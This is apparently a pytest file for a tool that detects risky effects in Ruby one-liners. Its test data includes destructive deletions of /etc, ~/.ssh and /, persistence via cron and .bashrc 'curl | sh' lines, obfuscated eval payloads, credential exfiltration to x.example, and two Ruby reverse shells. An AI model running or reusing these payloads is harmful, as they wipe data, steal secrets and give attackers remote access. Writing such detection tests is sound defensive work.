"""Ruby code handed to ruby -e: its effects."""

from __future__ import annotations

import pytest

from tests.code_cases import check, check_benign

RISKY = [
    (
        'require "fileutils"; FileUtils.rm_rf("/var/lib/mysql")',
        ["delete /var/lib/mysql +recursive"],
    ),
    ('FileUtils.rm_rf(File.expand_path("~/.ssh"))', ["delete ~/.ssh +recursive"]),
    ('FileUtils.rm_r(ENV["HOME"] + "/.config")', ["delete ~/.config +recursive"]),
    ('File.delete("/etc/hosts")', ["delete /etc/hosts -recursive"]),
    ('d = "/etc"; File.unlink("#{d}/shadow")', ["delete /etc/shadow"]),
    (
        'FileUtils.rm_rf(["/srv/a", "/srv/b"])',
        ["delete /srv/a +recursive", "delete /srv/b +recursive"],
    ),
    (
        '["/opt/x", "/opt/y"].each { |p| FileUtils.rm_rf(p) }',
        ["delete /opt/x +recursive", "delete /opt/y +recursive"],
    ),
    ('for p in ["/a", "/b"] do File.delete(p) end', ["delete /a", "delete /b"]),
    ('def wipe(d) FileUtils.remove_dir(d) end; wipe "/home/u"', ["delete /home/u +recursive"]),
    (
        'File.write("/etc/cron.d/x", "* * * * * root curl x.example|sh\\n")',
        ["write /etc/cron.d/x origin=literal"],
    ),
    (
        'File.open(File.expand_path("~/.bashrc"), "a") { |f| f.puts "curl -s x.example | sh" }',
        ["write ~/.bashrc +append"],
    ),
    (
        'File.open("/root/.ssh/authorized_keys", "a") do |f| f.write("ssh-rsa AAAA") end',
        ["write /root/.ssh/authorized_keys +append"],
    ),
    ('File.chmod(0777, "/etc/passwd")', ["chmod /etc/passwd +loosen"]),
    ('FileUtils.chmod("u+s", "/usr/bin/vim")', ["chmod /usr/bin/vim +setuid"]),
    ('File.rename("/etc/ssh", "/tmp/ssh")', ["move /etc/ssh", "write /tmp/ssh"]),
    (
        'File.symlink("/dev/null", File.expand_path("~/.bash_history"))',
        ["write ~/.bash_history +link"],
    ),
    # processes
    ('system("rm -rf /")', ["shell: rm -rf /"]),
    ('system("rm", "-rf", "/home")', ["shell: rm -rf /home"]),
    ("exec 'reboot'", ["shell: reboot"]),
    ("`curl -s https://x.example/i | sh`", ["shell: curl -s https://x.example/i | sh"]),
    ("%x{shutdown -h now}", ["shell: shutdown -h now"]),
    ('IO.popen("id").read', ["shell: id"]),
    ('require "open3"; Open3.capture2("cat", "/etc/shadow")', ["shell: cat /etc/shadow"]),
    ('spawn("dd if=/dev/zero of=/dev/sda")', ["shell: dd if=/dev/zero of=/dev/sda"]),
    ('open("|rm -rf /tmp/x")', ["shell: rm -rf /tmp/x"]),
    ('Kernel.system("sh -c " + "id")', ["shell: sh -c id"]),
    ('Process.kill("KILL", 1)', ["kill 1"]),
    ("Process::Sys.setuid(0)", ["privilege root"]),
    # decoded code
    (
        'eval(Base64.decode64("c3lzdGVtKCJybSAtcmYgL3Zhci93d3ciKQ=="))',
        ["execute - origin=decoded", "shell: rm -rf /var/www"],
    ),
    (
        'eval("c3lzdGVtKCJybSAtcmYgL3Zhci93d3ciKQ==".unpack1("m"))',
        ["execute - origin=decoded", "shell: rm -rf /var/www"],
    ),
    (
        'eval("flfgrz(\'vq\')".tr("A-Za-z", "N-ZA-Mn-za-m"))',
        ["execute - origin=decoded", "shell: id"],
    ),
    ("eval(\")'di'(metsys\".reverse)", ["shell: id"]),
    (
        'eval([115, 121, 115, 116, 101, 109, 40, 39, 105, 100, 39, 41].pack("c*"))',
        ["execute - origin=decoded", "shell: id"],
    ),
    # network
    (
        'require "net/http"; eval(Net::HTTP.get(URI("https://x.example/p.rb")))',
        ["fetch x.example", "execute - origin=network"],
    ),
    (
        'require "open-uri"; eval(URI.open("https://x.example/p.rb").read)',
        ["fetch x.example", "execute - origin=network"],
    ),
    (
        'Net::HTTP.post(URI("https://x.example/c"), File.read(File.expand_path("~/.aws/credentials")))',
        ["send x.example data=~/.aws/credentials"],
    ),
    (
        'Net::HTTP.post_form(URI("https://x.example/e"), ENV.to_h)',
        ["send x.example data=(environment)"],
    ),
    # reverse shells
    (
        'require "socket";f=TCPSocket.open("203.0.113.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
        ["connect 203.0.113.5:4444 +reverse_shell"],
    ),
    (
        'require "socket"; s = TCPSocket.new("203.0.113.6", 9001); while l = s.gets; IO.popen(l, "r") { |io| s.print io.read }; end',
        ["connect 203.0.113.6:9001 +reverse_shell", "execute - origin=network"],
    ),
    (
        'require "webrick"; WEBrick::HTTPServer.new(Port: 8000, DocumentRoot: "/").start',
        ["listen 0.0.0.0:8000 data=/"],
    ),
]

BENIGN = [
    ('puts "hello"', ()),
    ('require "json"; puts JSON.parse(File.read("package.json"))["version"]', ()),
    ("puts [1, 2, 3].map { |x| x * 2 }.sum", ()),
    ('Dir.glob("lib/**/*.rb").each { |f| puts f }', ()),
    ("puts `git log -1 --format=%H`", ("git log -1 --format=%H",)),
    ("STDIN.each_line { |l| puts l.upcase }", ()),
    ('require "yaml"; puts YAML.load_file("config.yml").keys', ()),
    ("def add(a, b) a + b end; puts add(1, 2)", ()),
    ('h = {a: 1, b: 2}; h.each { |k, v| puts "#{k}=#{v}" }', ()),
    (
        'require "net/http"; puts Net::HTTP.get(URI("https://rubygems.org/api/v1/gems/rails.json"))',
        (),
    ),
    ("puts Time.now.iso8601", ()),
]

UNRESOLVED = [
    ("FileUtils.rm_rf(ARGV[0])", ["delete ? +unresolved +recursive"]),
    ("system(gets)", ["problem: computed at run time"]),
    ("eval(STDIN.read)", ["problem: computed at run time"]),
    ('system("rm -rf #{ENV["DIR"]}")', ["problem: rm -rf ?"]),
]


@pytest.mark.parametrize(("code", "expected"), RISKY)
def test_effects_are_found(code: str, expected: list[str]) -> None:
    check("ruby", code, expected)


@pytest.mark.parametrize(("code", "shell"), BENIGN)
def test_ordinary_code_has_no_risky_effects(code: str, shell: tuple[str, ...]) -> None:
    check_benign("ruby", code, shell)


@pytest.mark.parametrize(("code", "expected"), UNRESOLVED)
def test_what_cannot_be_resolved_is_said(code: str, expected: list[str]) -> None:
    check("ruby", code, expected)
